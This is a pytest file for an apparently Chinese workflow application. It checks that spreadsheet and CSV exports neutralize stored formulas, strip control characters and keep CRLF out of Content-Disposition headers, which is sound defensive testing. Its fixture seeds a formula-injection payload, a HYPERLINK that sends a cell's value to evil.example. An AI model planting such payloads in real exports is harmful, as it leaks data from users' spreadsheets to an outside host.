"""Exports survive what is already stored: control characters dropped, formulas neutralized, names encoded.

First failing on main (issue 12, High 2 and 3): a dossier cause with \\x0b made the XLSX report 500 in the API and
the UI and `huanjie report` exit 1; a community name with \\x01 broke /data/export/communities.xlsx; a region name
with CRLF made every download of that region 500; `=HYPERLINK(...)` was written as a formula cell.
"""
from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from sqlalchemy import update

from tests.e2e.api_support import Api, api  # noqa: F401
from tests.support import PASSWORD
from workflow.auth import SYSTEM
from workflow.models import Community, Dossier, Region
from workflow.services.dossiers import open_dossier
from workflow.text import FORMULA_START, content_disposition

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def poison(api: Api) -> None:
    """Store, as data from before the rule would be, formulas and control characters in every text column."""
    with api.db.uow() as w:
        dossier, _ = open_dossier(w, SYSTEM, "210102001001", "人手不足", "2014-12-20")
        s = w.session
        s.execute(update(Dossier).where(Dossier.id == dossier.id).values(cause="=1+1 x\x0by", stationed_cadre="@SUM(A1)"))
        s.execute(update(Community).where(Community.code == "210102001001").values(name=FORMULA + "\x01",
                                                                                   other_risk="=1+1"))
        s.execute(update(Community).where(Community.code == "210102001002").values(name="-2+3", other_risk="+1"))
        s.execute(update(Region).where(Region.code == "210100").values(name="沈阳\r\n市"))
        s.execute(update(Region).where(Region.code == "210102001").values(name="\t太原街"))


def check_xlsx(data: bytes) -> int:
    """Open a workbook: no formula cell, no text cell that a spreadsheet would read as a formula."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells += 1
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    assert not cell.value.startswith(FORMULA_START), (ws.title, cell.coordinate, cell.value)
                    assert "\x0b" not in cell.value and "\x01" not in cell.value
    return cells


def check_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_START), value
            assert "\x0b" not in value and "\x01" not in value
    return rows


def test_the_api_report_downloads_open_with_every_text_cell_a_neutral_string(api):
    poison(api)
    for fmt in ("xlsx", "csv"):
        r = api.get(f"/campaigns/LN2014/report/download?city=210100&format={fmt}", who="city")
        assert r.status_code == 200, r.get_data(as_text=True)[:300]
        assert "filename*=UTF-8''" in r.headers["Content-Disposition"]
        assert "\r" not in r.headers["Content-Disposition"] and "\n" not in r.headers["Content-Disposition"]
        if fmt == "xlsx":
            assert check_xlsx(r.data) > 50
        else:
            check_csv(r.data)


def test_the_report_dossier_sheet_keeps_the_cause_as_text_not_a_formula(api):
    poison(api)
    r = api.get("/campaigns/LN2014/report/download?city=210100&format=xlsx", who="city")
    wb = openpyxl.load_workbook(io.BytesIO(r.data))
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'=1+1 xy" in values
    assert "'@SUM(A1)" in values


def test_the_ui_structure_exports_and_report_neutralize_every_text_column(api, ui_client):
    poison(api)
    client = ui_client("admin")
    for kind in ("communities", "regions", "users", "responsibilities"):
        for fmt in ("xlsx", "csv"):
            r = client.get(f"/data/export/{kind}.{fmt}")
            assert r.status_code == 200, (kind, fmt, r.status_code)
            assert r.headers["Cache-Control"] == "no-store"
            if fmt == "xlsx":
                check_xlsx(r.data)
            else:
                check_csv(r.data)
    r = client.get("/data/export/communities.xlsx")
    names = [c.value for row in openpyxl.load_workbook(io.BytesIO(r.data)).active.iter_rows() for c in row]
    assert "'" + FORMULA in names and "'-2+3" in names and "'=1+1" in names and "'+1" in names
    r = client.get("/data/report/download?campaign=LN2014&region=210100&format=xlsx")
    assert r.status_code == 200
    check_xlsx(r.data)


def test_the_cli_report_of_a_poisoned_city_exits_0_and_opens(api, tmp_path, monkeypatch):
    from click.testing import CliRunner

    from huanjie.cli import main
    poison(api)
    monkeypatch.setenv("HUANJIE_DATABASE_URL", api.db.engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("HUANJIE_INSTANCE", str(tmp_path / "instance"))
    out = tmp_path / "r.xlsx"
    result = CliRunner().invoke(main, ["report", "--campaign", "LN2014", "--city", "210100", "--format", "xlsx",
                                       "--out", str(out)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    check_xlsx(out.read_bytes())


@pytest.mark.parametrize("name, ascii_part", [
    ("LN2014-210100-沈阳\r\n市-2014-12-10.xlsx", 'filename="LN2014-210100-_-2014-12-10.xlsx"'),
    ('a"b\\c/d;e.csv', 'filename="a_b_c_d_e.csv"'),
    ("plain.csv", 'filename="plain.csv"'),
])
def test_content_disposition_is_rfc_6266_with_an_rfc_5987_utf8_name(name, ascii_part):
    value = content_disposition(name)
    assert value.startswith("attachment; " + ascii_part)
    assert "\r" not in value and "\n" not in value
    if not name.isascii():
        assert "filename*=UTF-8''LN2014-210100-%E6%B2%88%E9%98%B3%E5%B8%82-2014-12-10.xlsx" in value


@pytest.fixture
def ui_client(api: Api) -> Any:
    def make(username: str) -> Any:
        api.app.config["WTF_CSRF_ENABLED"] = False
        client = api.app.test_client()
        r = client.post("/login", data={"username": username, "password": PASSWORD})
        assert r.status_code == 302, r.get_data(as_text=True)[:300]
        return client
    return make


def test_check_text_lists_stored_rows_the_rule_would_refuse_and_exits_1(api, tmp_path, monkeypatch):
    from click.testing import CliRunner

    from huanjie.cli import main
    monkeypatch.setenv("HUANJIE_DATABASE_URL", api.db.engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("HUANJIE_INSTANCE", str(tmp_path / "instance"))
    clean = CliRunner().invoke(main, ["check-text"])
    assert clean.exit_code == 0, clean.output
    poison(api)
    result = CliRunner().invoke(main, ["check-text"])
    assert result.exit_code == 1
    lines = set(result.stdout.splitlines())
    assert any(line.startswith("dossiers id=") and " cause: must not contain control" in line for line in lines)
    assert any(line.startswith("communities id=") and " name: must not contain control" in line for line in lines)
    assert any(line.startswith("regions id=") and " name: " in line for line in lines)
    assert not any("HYPERLINK" in line for line in lines)  # values are not echoed
